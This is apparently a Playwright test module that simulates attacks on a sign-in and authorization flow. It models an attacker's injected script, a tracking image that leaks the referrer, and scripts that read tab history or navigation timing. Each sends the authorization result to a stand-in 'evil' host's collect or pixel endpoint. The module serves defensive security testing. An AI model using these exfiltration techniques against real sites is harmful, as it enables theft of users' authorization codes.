import type { Page } from "@playwright/test";
import { ALICE } from "../../../src/grants/cast.ts";
import { lootIn, spendLoot } from "../attacker.ts";
import { beginAtPrint, signInAndAllow, signInToPrint } from "../people.ts";
import type { RealAttack, Scene } from "../scene.ts";

/** Print's pages that Alice sees: the first one, and the one with the answer. */
const EVERY_PAGE = 2;

/** A script of the attacker's in Print's page, before Print's own, reports the address. */
export const thirdPartyScript: RealAttack = {
  print: ({ evil }) => ({ embeds: `<script src="${evil}/report-address.js"></script>` }),
  async run(scene) {
    await arriveBeforePrintsScript(scene);
    const reports = await scene.sites.evil.arrivals("/collect", EVERY_PAGE);
    return spendLoot(scene, lootIn(reports.map(({ body }) => body)));
  },
};

/** A script that runs once Print has finished reads the history of the tab. */
export const history = afterwards("read-history");

/** The same asks for the performance entry of the page's navigation. */
export const performanceEntry = afterwards("read-timing");

/** Print's page has a picture of the attacker's in it. */
export const referrer: RealAttack = {
  print: ({ evil }) => ({ embeds: `<img src="${evil}/pixel" alt="">` }),
  async run(scene) {
    await arriveBeforePrintsScript(scene);
    const pictures = await scene.sites.evil.arrivals("/pixel", EVERY_PAGE);
    return spendLoot(scene, lootIn(pictures.map(({ referrer }) => referrer)));
  },
};

/** Alice signs in; on the page with the answer, Print's own script is slow to load and the attacker is quick. */
export async function arriveBeforePrintsScript({ alice, sites }: Scene): Promise<void> {
  await beginAtPrint(alice, sites);
  await withoutScript(alice, sites.origins.print);
  await signInAndAllow(alice, ALICE);
}

function withoutScript(page: Page, print: string) {
  return page.route(`${print}/page.js`, () => undefined);
}

function afterwards(script: string): RealAttack {
  return {
    async run(scene) {
      const { alice, sites } = scene;
      await signInToPrint(alice, sites, ALICE);
      await alice.addScriptTag({ url: `${sites.origins.evil}/${script}.js` });
      const reports = await sites.evil.arrivals("/collect", 1);
      return spendLoot(scene, lootIn(reports.flatMap(({ body }) => body.split("\n"))));
    },
  };
}
